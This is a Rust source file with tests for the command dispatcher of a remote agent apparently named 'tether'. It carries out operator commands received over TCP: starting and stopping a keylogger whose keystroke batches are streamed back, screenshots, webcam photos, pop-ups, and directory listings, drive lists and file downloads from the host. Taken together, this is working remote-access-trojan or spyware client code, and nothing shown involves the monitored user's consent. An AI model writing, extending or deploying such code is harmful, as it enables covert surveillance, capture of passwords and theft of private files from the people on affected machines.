//! Command dispatcher: one handler per command tag.
//!
//! [`CommandDispatcher::handle_message`] is called by the session loop for
//! every decoded line.  Handlers reply through a [`ResponseSink`]; they never
//! touch the socket directly.
//!
//! # Which handlers block the receive loop
//!
//! ```text
//! ping, keylog_*, quit        answered inline
//! file_list / file_info /     spawn_blocking, awaited (disk work is short)
//! file_download / get_drives
//! screenshot / photo / popup  spawned task + spawn_blocking, not awaited
//! ```
//!
//! A popup waits for a human, so it must not hold up `ping` replies or other
//! commands that arrive while it is on screen.

use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use async_trait::async_trait;
use tether_core::protocol::payloads::{FsResult, KeylogBatch, KeylogStatus, PopupAnswer};
use tether_core::{Command, CommandError, DialogKind, EncodeError, Message, Response, ResponseBody};
use thiserror::Error;
use tokio::sync::mpsc;
use tokio::task::JoinHandle;
use tracing::{debug, info, warn};

use crate::application::collaborators::{CollaboratorError, Collaborators};

/// How long `keylog_stop` waits for the relay to forward batches that were
/// already queued.
const RELAY_DRAIN: Duration = Duration::from_millis(500);

/// Errors from writing a response.
#[derive(Debug, Error)]
pub enum SinkError {
    #[error("failed to encode response: {0}")]
    Encode(#[from] EncodeError),

    #[error("connection is closed")]
    Closed,

    #[error("I/O error: {0}")]
    Io(#[from] std::io::Error),
}

/// Where responses go.  The network layer implements this over the TCP write
/// half; tests implement it over a channel.
#[async_trait]
pub trait ResponseSink: Send + Sync {
    /// Writes one complete response line.
    async fn send_response(&self, response: &Response) -> Result<(), SinkError>;
}

/// What the session loop should do after a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flow {
    Continue,
    /// The server sent `quit`.
    Quit,
}

#[derive(Debug, Clone, Copy)]
enum CaptureTarget {
    Screen,
    Camera,
}

impl CaptureTarget {
    fn failure(self) -> &'static str {
        match self {
            CaptureTarget::Screen => "Screenshot failed",
            CaptureTarget::Camera => "Photo capture failed",
        }
    }
}

/// Routes commands to collaborators and replies through the sink.
pub struct CommandDispatcher {
    collaborators: Collaborators,
    sink: Arc<dyn ResponseSink>,
    /// Task forwarding keystroke batches while collection is running.
    relay: Mutex<Option<JoinHandle<()>>>,
}

impl CommandDispatcher {
    pub fn new(collaborators: Collaborators, sink: Arc<dyn ResponseSink>) -> Self {
        Self {
            collaborators,
            sink,
            relay: Mutex::new(None),
        }
    }

    /// Handles one decoded message.
    ///
    /// Unknown tags and malformed fields are answered with an `error`
    /// response; a response sent by the server is ignored.
    pub async fn handle_message(&self, msg: Message) -> Flow {
        match Command::from_message(msg) {
            Ok(cmd) => self.handle(cmd).await,
            Err(CommandError::NotACommand) => {
                debug!("ignoring a response-shaped message from the server");
                Flow::Continue
            }
            Err(e) => {
                warn!("rejected command: {e}");
                self.reply(Response::error(e.to_string())).await;
                Flow::Continue
            }
        }
    }

    /// Handles one typed command.
    pub async fn handle(&self, cmd: Command) -> Flow {
        debug!("handling `{}`", cmd.tag());
        match cmd {
            Command::Ping => self.reply(Response::ok(ResponseBody::Pong)).await,
            Command::Screenshot => self.spawn_capture(CaptureTarget::Screen),
            Command::Photo => self.spawn_capture(CaptureTarget::Camera),
            Command::Popup {
                title,
                message,
                kind,
            } => self.spawn_popup(title, message, kind),
            Command::KeylogStart => self.keylog_start().await,
            Command::KeylogStop => self.keylog_stop().await,
            Command::FileList { path } => {
                let files = Arc::clone(&self.collaborators.files);
                let response = match tokio::task::spawn_blocking(move || files.list(path)).await {
                    Ok(result) => Response::ok(ResponseBody::FileList(result)),
                    Err(e) => Response::error(format!("File list error: {e}")),
                };
                self.reply(response).await;
            }
            Command::FileInfo { file_path } => {
                let files = Arc::clone(&self.collaborators.files);
                let response =
                    match tokio::task::spawn_blocking(move || files.info(&file_path)).await {
                        Ok(result) => Response::ok(ResponseBody::FileInfo(result)),
                        Err(e) => Response::error(format!("File info error: {e}")),
                    };
                self.reply(response).await;
            }
            Command::FileDownload { file_path } => {
                let files = Arc::clone(&self.collaborators.files);
                let response =
                    match tokio::task::spawn_blocking(move || files.download(&file_path)).await {
                        Ok(result) => {
                            if let FsResult::Ok(content) = &result {
                                info!("sending {} ({} bytes)", content.path, content.size);
                            }
                            Response::ok(ResponseBody::FileDownload(result))
                        }
                        Err(e) => Response::error(format!("File download error: {e}")),
                    };
                self.reply(response).await;
            }
            Command::GetDrives => {
                let files = Arc::clone(&self.collaborators.files);
                let response = match tokio::task::spawn_blocking(move || files.drives()).await {
                    Ok(result) => Response::ok(ResponseBody::DrivesList(result)),
                    Err(e) => Response::error(format!("Get drives error: {e}")),
                };
                self.reply(response).await;
            }
            Command::Quit => {
                info!("server asked the agent to quit");
                return Flow::Quit;
            }
        }
        Flow::Continue
    }

    /// Stops keystroke collection if it is running.  Called when the session
    /// ends for any reason.
    pub fn shutdown(&self) {
        if self.collaborators.keystrokes.is_running() {
            self.collaborators.keystrokes.stop();
        }
        if let Some(relay) = self.take_relay() {
            relay.abort();
        }
    }

    async fn reply(&self, response: Response) {
        deliver(&*self.sink, response).await;
    }

    fn take_relay(&self) -> Option<JoinHandle<()>> {
        self.relay
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
            .take()
    }

    // ── Spawned handlers ──────────────────────────────────────────────────────

    fn spawn_capture(&self, target: CaptureTarget) {
        let screen = Arc::clone(&self.collaborators.screen);
        let sink = Arc::clone(&self.sink);
        tokio::spawn(async move {
            let outcome = tokio::task::spawn_blocking(move || match target {
                CaptureTarget::Screen => screen.capture_screen(),
                CaptureTarget::Camera => screen.capture_photo(),
            })
            .await;

            let response = match outcome {
                Ok(Ok(Some(png))) => match target {
                    CaptureTarget::Screen => Response::ok(ResponseBody::Screenshot(png)),
                    CaptureTarget::Camera => Response::ok(ResponseBody::Photo(png)),
                },
                Ok(Ok(None)) => Response::error(target.failure()),
                Ok(Err(e)) => Response::error(format!("{}: {e}", target.failure())),
                Err(e) => Response::error(format!("{}: {e}", target.failure())),
            };
            deliver(&*sink, response).await;
        });
    }

    fn spawn_popup(&self, title: String, message: String, kind: DialogKind) {
        let dialog = Arc::clone(&self.collaborators.dialog);
        let sink = Arc::clone(&self.sink);
        tokio::spawn(async move {
            let outcome =
                tokio::task::spawn_blocking(move || dialog.show_dialog(&title, &message, kind))
                    .await;

            let response = match outcome {
                Ok(Ok(button_pressed)) => {
                    Response::ok(ResponseBody::Popup(PopupAnswer { button_pressed }))
                }
                Ok(Err(e)) => Response::error(format!("Popup error: {e}")),
                Err(e) => Response::error(format!("Popup error: {e}")),
            };
            deliver(&*sink, response).await;
        });
    }

    // ── Keystroke collection ──────────────────────────────────────────────────

    async fn keylog_start(&self) {
        let keystrokes = &self.collaborators.keystrokes;
        if keystrokes.is_running() {
            self.reply(keylog_status("already_running", "Keylogger is already running"))
                .await;
            return;
        }

        match keystrokes.start() {
            Ok(batches) => {
                let relay = tokio::spawn(relay_batches(batches, Arc::clone(&self.sink)));
                let previous = self
                    .relay
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .replace(relay);
                if let Some(previous) = previous {
                    previous.abort();
                }
                info!("keystroke collection started");
                self.reply(keylog_status("started", "Keylogger started successfully"))
                    .await;
            }
            Err(CollaboratorError::AlreadyRunning) => {
                self.reply(keylog_status("already_running", "Keylogger is already running"))
                    .await;
            }
            Err(e) => {
                self.reply(Response::error(format!("Failed to start keylogger: {e}")))
                    .await;
            }
        }
    }

    async fn keylog_stop(&self) {
        let keystrokes = &self.collaborators.keystrokes;
        if !keystrokes.is_running() {
            self.reply(keylog_status("not_running", "Keylogger was not running"))
                .await;
            return;
        }

        let tail = keystrokes.stop();
        if let Some(mut relay) = self.take_relay() {
            // The source closes its channel on stop; let queued batches out first.
            if tokio::time::timeout(RELAY_DRAIN, &mut relay).await.is_err() {
                debug!("keystroke relay did not drain in time; aborting it");
                relay.abort();
            }
        }
        if let Some(tail) = tail.filter(|t| !t.is_empty()) {
            self.reply(keylog_batch(tail)).await;
        }
        info!("keystroke collection stopped");
        self.reply(keylog_status("stopped", "Keylogger stopped successfully"))
            .await;
    }
}

async fn relay_batches(mut batches: mpsc::Receiver<String>, sink: Arc<dyn ResponseSink>) {
    while let Some(batch) = batches.recv().await {
        if batch.is_empty() {
            continue;
        }
        if let Err(e) = sink.send_response(&keylog_batch(batch)).await {
            debug!("keystroke relay stopping: {e}");
            return;
        }
    }
}

async fn deliver(sink: &dyn ResponseSink, response: Response) {
    let tag = response.tag();
    if let Err(e) = sink.send_response(&response).await {
        debug!("`{tag}` response not delivered: {e}");
    }
}

fn keylog_status(status: &str, message: &str) -> Response {
    Response::ok(ResponseBody::KeylogStatus(KeylogStatus {
        status: status.to_string(),
        message: message.to_string(),
    }))
}

fn keylog_batch(data: String) -> Response {
    let timestamp = chrono::Utc::now().timestamp_micros() as f64 / 1_000_000.0;
    Response::ok(ResponseBody::KeylogData(KeylogBatch { timestamp, data }))
}

// ── Tests ─────────────────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;
    use crate::application::collaborators::{
        MockDialogPresenter, MockFileBrowser, MockKeystrokeSource, MockScreenCapture,
    };
    use std::sync::atomic::{AtomicBool, Ordering};
    use tether_core::decode_message;
    use tether_core::protocol::payloads::{DirectoryListing, FsFailure};
    use tokio::sync::mpsc::{unbounded_channel, UnboundedReceiver, UnboundedSender};
    use tokio::time::timeout;

    const WAIT: Duration = Duration::from_secs(5);

    /// Sink that forwards every response to a channel.
    struct ChannelSink {
        tx: UnboundedSender<Response>,
    }

    #[async_trait]
    impl ResponseSink for ChannelSink {
        async fn send_response(&self, response: &Response) -> Result<(), SinkError> {
            self.tx.send(response.clone()).map_err(|_| SinkError::Closed)
        }
    }

    /// Collaborators with no expectations; any call fails the test.
    fn idle() -> Collaborators {
        Collaborators {
            screen: Arc::new(MockScreenCapture::new()),
            dialog: Arc::new(MockDialogPresenter::new()),
            keystrokes: Arc::new(MockKeystrokeSource::new()),
            files: Arc::new(MockFileBrowser::new()),
        }
    }

    fn dispatcher(collaborators: Collaborators) -> (CommandDispatcher, UnboundedReceiver<Response>) {
        let (tx, rx) = unbounded_channel();
        (
            CommandDispatcher::new(collaborators, Arc::new(ChannelSink { tx })),
            rx,
        )
    }

    fn line(json: &str) -> Message {
        decode_message(json).unwrap()
    }

    async fn next(rx: &mut UnboundedReceiver<Response>) -> Response {
        timeout(WAIT, rx.recv())
            .await
            .expect("response within timeout")
            .expect("sink alive")
    }

    fn status_of(response: &Response) -> &str {
        match &response.body {
            ResponseBody::KeylogStatus(s) => &s.status,
            other => panic!("expected keylog_status, got {other:?}"),
        }
    }

    #[tokio::test]
    async fn test_ping_is_answered_with_pong() {
        // Arrange
        let (d, mut rx) = dispatcher(idle());

        // Act
        let flow = d.handle_message(line(r#"{"cmd":"ping"}"#)).await;

        // Assert
        assert_eq!(flow, Flow::Continue);
        assert_eq!(next(&mut rx).await, Response::ok(ResponseBody::Pong));
    }

    #[tokio::test]
    async fn test_unknown_tag_is_answered_with_an_error() {
        let (d, mut rx) = dispatcher(idle());

        d.handle_message(line(r#"{"cmd":"bogus"}"#)).await;

        assert_eq!(next(&mut rx).await, Response::error("Unknown command: bogus"));
    }

    #[tokio::test]
    async fn test_missing_field_is_answered_with_an_error() {
        // Arrange
        let (d, mut rx) = dispatcher(idle());

        // Act
        d.handle_message(line(r#"{"cmd":"file_download"}"#)).await;

        // Assert
        let ResponseBody::Error(text) = next(&mut rx).await.body else {
            panic!("expected an error response");
        };
        assert!(text.starts_with("Invalid file_download command"), "{text}");
    }

    #[tokio::test]
    async fn test_response_from_the_server_is_ignored() {
        let (d, mut rx) = dispatcher(idle());

        let flow = d
            .handle_message(line(r#"{"type":"pong","status":"ok"}"#))
            .await;

        assert_eq!(flow, Flow::Continue);
        assert!(rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn test_quit_ends_the_session() {
        let (d, mut rx) = dispatcher(idle());

        let flow = d.handle_message(line(r#"{"cmd":"quit"}"#)).await;

        assert_eq!(flow, Flow::Quit);
        assert!(rx.try_recv().is_err());
    }

    #[tokio::test]
    async fn test_screenshot_payload_is_the_capture() {
        // Arrange
        let mut screen = MockScreenCapture::new();
        screen
            .expect_capture_screen()
            .times(1)
            .returning(|| Ok(Some("iVBORw0KGgo=".to_string())));
        let (d, mut rx) = dispatcher(Collaborators {
            screen: Arc::new(screen),
            ..idle()
        });

        // Act
        d.handle(Command::Screenshot).await;

        // Assert
        assert_eq!(
            next(&mut rx).await,
            Response::ok(ResponseBody::Screenshot("iVBORw0KGgo=".to_string()))
        );
    }

    #[tokio::test]
    async fn test_empty_screenshot_reports_failure() {
        let mut screen = MockScreenCapture::new();
        screen.expect_capture_screen().returning(|| Ok(None));
        let (d, mut rx) = dispatcher(Collaborators {
            screen: Arc::new(screen),
            ..idle()
        });

        d.handle(Command::Screenshot).await;

        assert_eq!(next(&mut rx).await, Response::error("Screenshot failed"));
    }

    #[tokio::test]
    async fn test_unavailable_camera_is_an_error_response() {
        // Arrange
        let mut screen = MockScreenCapture::new();
        screen
            .expect_capture_photo()
            .returning(|| Err(CollaboratorError::Unavailable("camera capture")));
        let (d, mut rx) = dispatcher(Collaborators {
            screen: Arc::new(screen),
            ..idle()
        });

        // Act
        d.handle(Command::Photo).await;

        // Assert
        assert_eq!(
            next(&mut rx).await,
            Response::error("Photo capture failed: camera capture is not available on this host")
        );
    }

    #[tokio::test]
    async fn test_popup_passes_fields_and_reports_the_button() {
        // Arrange
        let mut dialog = MockDialogPresenter::new();
        dialog
            .expect_show_dialog()
            .withf(|title, message, kind| {
                title == "Hi" && message == "There" && *kind == DialogKind::Warning
            })
            .times(1)
            .returning(|_, _, _| Ok("ok".to_string()));
        let (d, mut rx) = dispatcher(Collaborators {
            dialog: Arc::new(dialog),
            ..idle()
        });

        // Act
        d.handle_message(line(
            r#"{"cmd":"popup","title":"Hi","message":"There","type":"warning"}"#,
        ))
        .await;

        // Assert
        assert_eq!(
            next(&mut rx).await,
            Response::ok(ResponseBody::Popup(PopupAnswer {
                button_pressed: "ok".to_string()
            }))
        );
    }

    #[tokio::test]
    async fn test_slow_popup_does_not_block_ping() {
        // Arrange
        let (release_tx, release_rx) = std::sync::mpsc::channel::<()>();
        let release_rx = Mutex::new(release_rx);
        let mut dialog = MockDialogPresenter::new();
        dialog.expect_show_dialog().returning(move |_, _, _| {
            let _ = release_rx.lock().unwrap().recv();
            Ok("ok".to_string())
        });
        let (d, mut rx) = dispatcher(Collaborators {
            dialog: Arc::new(dialog),
            ..idle()
        });

        // Act
        d.handle_message(line(r#"{"cmd":"popup","title":"t","message":"m"}"#))
            .await;
        d.handle_message(line(r#"{"cmd":"ping"}"#)).await;

        // Assert: pong first, popup answer once released
        assert_eq!(next(&mut rx).await.tag(), "pong");
        release_tx.send(()).unwrap();
        assert_eq!(next(&mut rx).await.tag(), "popup");
    }

    #[tokio::test]
    async fn test_keylog_stop_when_not_running() {
        let mut keys = MockKeystrokeSource::new();
        keys.expect_is_running().return_const(false);
        keys.expect_stop().never();
        let (d, mut rx) = dispatcher(Collaborators {
            keystrokes: Arc::new(keys),
            ..idle()
        });

        d.handle(Command::KeylogStop).await;

        assert_eq!(status_of(&next(&mut rx).await), "not_running");
    }

    #[tokio::test]
    async fn test_keylog_start_when_already_running() {
        let mut keys = MockKeystrokeSource::new();
        keys.expect_is_running().return_const(true);
        keys.expect_start().never();
        let (d, mut rx) = dispatcher(Collaborators {
            keystrokes: Arc::new(keys),
            ..idle()
        });

        d.handle(Command::KeylogStart).await;

        assert_eq!(status_of(&next(&mut rx).await), "already_running");
    }

    #[tokio::test]
    async fn test_keylog_unavailable_source_is_an_error_response() {
        let mut keys = MockKeystrokeSource::new();
        keys.expect_is_running().return_const(false);
        keys.expect_start()
            .returning(|| Err(CollaboratorError::Unavailable("keystroke collection")));
        let (d, mut rx) = dispatcher(Collaborators {
            keystrokes: Arc::new(keys),
            ..idle()
        });

        d.handle(Command::KeylogStart).await;

        assert_eq!(
            next(&mut rx).await,
            Response::error(
                "Failed to start keylogger: keystroke collection is not available on this host"
            )
        );
    }

    #[tokio::test]
    async fn test_keylog_batches_are_relayed_until_stop() {
        // Arrange
        let running = Arc::new(AtomicBool::new(false));
        let (batch_tx, batch_rx) = mpsc::channel(8);
        let mut keys = MockKeystrokeSource::new();
        {
            let running = Arc::clone(&running);
            keys.expect_is_running()
                .returning(move || running.load(Ordering::SeqCst));
        }
        {
            let running = Arc::clone(&running);
            keys.expect_start().times(1).return_once(move || {
                running.store(true, Ordering::SeqCst);
                Ok(batch_rx)
            });
        }
        {
            let running = Arc::clone(&running);
            keys.expect_stop().times(1).returning(move || {
                running.store(false, Ordering::SeqCst);
                Some("tail".to_string())
            });
        }
        let (d, mut rx) = dispatcher(Collaborators {
            keystrokes: Arc::new(keys),
            ..idle()
        });

        // Act + Assert: start
        d.handle(Command::KeylogStart).await;
        assert_eq!(status_of(&next(&mut rx).await), "started");

        // A batch is relayed as keylog_data; empty batches are skipped
        batch_tx.send(String::new()).await.unwrap();
        batch_tx.send("abc".to_string()).await.unwrap();
        let ResponseBody::KeylogData(batch) = next(&mut rx).await.body else {
            panic!("expected keylog_data");
        };
        assert_eq!(batch.data, "abc");
        assert!(batch.timestamp > 0.0);

        // Stop: final batch, then status
        drop(batch_tx);
        d.handle(Command::KeylogStop).await;
        let ResponseBody::KeylogData(tail) = next(&mut rx).await.body else {
            panic!("expected the final keylog_data");
        };
        assert_eq!(tail.data, "tail");
        assert_eq!(status_of(&next(&mut rx).await), "stopped");
    }

    #[tokio::test]
    async fn test_file_list_forwards_the_path_and_result() {
        // Arrange
        let listing = DirectoryListing {
            path: "/srv".to_string(),
            parent_path: Some("/".to_string()),
            items: Vec::new(),
            total_items: 0,
            timestamp: "2024-06-10T12:00:00".to_string(),
        };
        let expected = listing.clone();
        let mut files = MockFileBrowser::new();
        files
            .expect_list()
            .withf(|path| path.as_deref() == Some("/srv"))
            .times(1)
            .return_once(move |_| FsResult::Ok(listing));
        let (d, mut rx) = dispatcher(Collaborators {
            files: Arc::new(files),
            ..idle()
        });

        // Act
        d.handle_message(line(r#"{"cmd":"file_list","path":"/srv"}"#))
            .await;

        // Assert
        assert_eq!(
            next(&mut rx).await,
            Response::ok(ResponseBody::FileList(FsResult::Ok(expected)))
        );
    }

    #[tokio::test]
    async fn test_file_info_failure_is_a_structured_payload() {
        let mut files = MockFileBrowser::new();
        files
            .expect_info()
            .returning(|p| FsResult::failed(format!("File does not exist: {p}"), p));
        let (d, mut rx) = dispatcher(Collaborators {
            files: Arc::new(files),
            ..idle()
        });

        d.handle(Command::FileInfo {
            file_path: "/nope".to_string(),
        })
        .await;

        assert_eq!(
            next(&mut rx).await,
            Response::ok(ResponseBody::FileInfo(FsResult::Err(FsFailure {
                error: "File does not exist: /nope".to_string(),
                path: Some("/nope".to_string()),
            })))
        );
    }

    #[tokio::test]
    async fn test_failed_download_is_a_structured_failure() {
        // Arrange
        let mut files = MockFileBrowser::new();
        files
            .expect_download()
            .returning(|p| FsResult::failed(format!("Path is not a file: {p}"), p));
        let (d, mut rx) = dispatcher(Collaborators {
            files: Arc::new(files),
            ..idle()
        });

        // Act
        d.handle(Command::FileDownload {
            file_path: "/tmp".to_string(),
        })
        .await;

        // Assert
        assert_eq!(
            next(&mut rx).await,
            Response::ok(ResponseBody::FileDownload(FsResult::Err(FsFailure {
                error: "Path is not a file: /tmp".to_string(),
                path: Some("/tmp".to_string()),
            })))
        );
    }

    #[tokio::test]
    async fn test_shutdown_stops_running_collection() {
        let mut keys = MockKeystrokeSource::new();
        keys.expect_is_running().return_const(true);
        keys.expect_stop().times(1).returning(|| None);
        let (d, _rx) = dispatcher(Collaborators {
            keystrokes: Arc::new(keys),
            ..idle()
        });

        d.shutdown();
    }
}
